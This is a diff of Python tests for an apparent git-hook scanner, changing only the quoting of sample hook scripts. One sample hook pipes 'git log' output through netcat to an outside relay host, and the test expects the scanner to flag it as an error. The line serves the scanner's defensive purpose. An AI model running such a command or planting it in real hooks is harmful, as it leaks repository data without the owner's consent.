@@ -19,12 +19,12 @@ def _hook_severities(tmp_path: Path, hook: str) -> set[str]:
 def test_extensions_in_a_case_pattern_are_file_types(tmp_path: Path) -> None:
     hook = (
         "#!/bin/sh\nfor f in $(git diff --name-only @{u}..); do\n"
-        "  case \"$f\" in\n    *.zarr|*.nc|*.grib2) echo \"push: large grid $f\"; exit 1 ;;\n  esac\n"
+        '  case "$f" in\n    *.zarr|*.nc|*.grib2) echo "push: large grid $f"; exit 1 ;;\n  esac\n'
         "  ls model.base64 >/dev/null 2>&1 || true\ndone\n"
     )
     assert _hook_severities(tmp_path, hook) == {"warning"}
 
 
 def test_a_hook_starting_netcat_is_still_running_code(tmp_path: Path) -> None:
-    hook = "#!/bin/sh\ncase \"$1\" in *.nc) ;; esac\ngit log -1 | nc relay.gridhub.example 9000\n"
+    hook = '#!/bin/sh\ncase "$1" in *.nc) ;; esac\ngit log -1 | nc relay.gridhub.example 9000\n'
     assert _hook_severities(tmp_path, hook) == {"error"}
